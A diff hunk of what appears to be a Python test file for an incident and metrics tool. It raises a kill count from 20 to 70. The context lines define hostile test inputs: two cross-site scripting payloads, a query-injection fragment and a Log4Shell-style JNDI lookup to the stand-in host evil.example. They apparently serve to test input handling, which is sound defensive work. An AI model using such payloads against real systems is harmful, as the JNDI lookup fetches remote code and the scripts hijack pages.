@@ -24,7 +24,7 @@ from lagkit.incident import Incident, open_incident
 from .recorded import INTERVAL, SCRAPED, Recording, in_openmetrics, own, serving
 
 SEED = 20261124
-KILLS = 20
+KILLS = 70  # with the thirty of a report in tests/test_durability.py: a hundred
 SCRIPT = "<script>document.title='ran'</script>"
 IMAGE = "<img src=x onerror=\"document.title='ran'\">"
 GROUP = f'{IMAGE}"}} or vector(1) # ${{jndi:ldap://evil.example/x}}'
